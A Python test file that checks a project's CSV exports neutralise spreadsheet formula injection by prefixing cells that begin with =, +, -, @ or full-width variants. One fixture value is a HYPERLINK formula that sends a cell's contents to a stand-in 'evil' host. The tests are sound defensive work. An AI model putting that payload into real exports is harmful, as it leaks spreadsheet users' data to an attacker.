"""Nothing a person wrote becomes a formula, however a spreadsheet splits our CSV."""

import csv
import io
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hubs.models import Hub
from tests.api.exported import body
from tests.hubs.factories import HubFactory
from wecd.catalogue import BY_NAME
from wecd.common import spreadsheets
from wecd.common.rest import cells, copy
from wecd.common.rest.formats import as_csv, csv_header, safe
from wecd.common.rest.reader import ANYONE

pytestmark = pytest.mark.django_db
LINK = 'Projet;=HYPERLINK("http://evil/?"&A1;"x")'
GUARDED = [
    ("=1+1", "'=1+1"),
    (LINK, LINK.replace(";=", ";'=")),
    ('a;"=1+1"', 'a;\'"=1+1"'),
    ('a;""=1', 'a;\'""=1'),
    ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
    ("a\r\n=1", "a\r\n'=1"),
    ("a\r＝1", "a\r'＝1"),
    ("a;=1;=2\n+3", "a;'=1;'=2\n'+3"),
    ("=a\n-b", "'=a\n'-b"),
    ("\n=1", "'\n'=1"),
    (";-5", ";'-5"),
    ("-5", "-5"),
    ("a; b", "a; b"),
    ("a;b=1", "a;b=1"),
    ("a; 'b'", "a; 'b'"),
    ("a,=1", "a,=1"),
    ("one\ntwo", "one\ntwo"),
    ("", ""),
]
SIGNS = st.text(st.sampled_from(" ab5.\"';,\t\r\n=+-@＝＋－＠é🧶\\"), max_size=12)


@pytest.mark.parametrize(("text", "cell"), GUARDED)
def test_signs_are_guarded_where_a_cell_may_begin(text, cell):
    assert safe(text) == cell
    assert spreadsheets.harmless(text) == ("'-5" if text == "-5" else cell)
    assert spreadsheets.guarded(cell) == cell


def test_a_workbook_is_split_by_nothing():
    assert spreadsheets.harmless_alone("one\n- two") == "one\n- two"
    assert spreadsheets.harmless_alone("=1") == "'=1"
    assert spreadsheets.harmless(5) == spreadsheets.harmless_alone(5) == 5


def test_a_list_inside_a_cell_stays_json():
    assert safe([{"name": "a;=1", "of": None}]) == '[{"name":"a;\'=1","of":null}]'


def copied(resource) -> bytes:
    """All rows of the resource as an export writes them, without its first line."""
    snapshot = copy.Snapshot(seconds=60, memory="4MB")
    rows = resource.rows(ANYONE).order_by("pk")
    return b"".join(snapshot.copy(cells.table(rows, resource.fields), copy.AS_CSV))


def paged(resource) -> bytes:
    """The same rows as a page writes them."""
    rows = resource.rows(ANYONE).order_by("pk").values_list(resource.as_json(resource.fields), flat=True)
    head = csv_header(resource.fields)
    return as_csv([row.encode() for row in rows], resource.fields).removeprefix(head)


@given(texts=st.lists(SIGNS, min_size=2, max_size=2))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_the_database_and_python_write_the_same(texts, hubs):
    plain, written = hubs
    Hub.objects.filter(pk=written).update(name=texts[0], former_names=texts[1], city=texts[0])
    resource = BY_NAME["hubs"]()
    found = copied(resource)
    assert found == paged(resource)
    first, second = csv.DictReader(io.StringIO((csv_header(resource.fields) + found).decode(), newline=""))
    assert (first["name"], second["name"], second["former_names"]) == ("Plain", *map(safe, texts))


@pytest.fixture
def hubs(db):
    return [HubFactory(name="Plain").pk, HubFactory().pk]


def test_lists_of_related_rows_are_guarded_too(hubs):
    Hub.objects.get(pk=hubs[0]).operators.create(name="a;=1")
    resource = BY_NAME["hubs"]()
    found = copied(resource)
    assert b"""a;'=1""" in found
    assert found == paged(resource)


def test_as_excel_splits_it_no_cell_begins_with_a_sign(anonymous):
    for number, (text, _cell) in enumerate(GUARDED):
        HubFactory(slug=f"h{number}", name=text or "-", former_names=text, city=text)
    data = body(anonymous.get("exports/hubs.csv", trailer="no", fields="name,slug,city,former_names"))
    assert not re.search(r'(^|[;\t\r\n])"*[=@＝+]', data.decode())
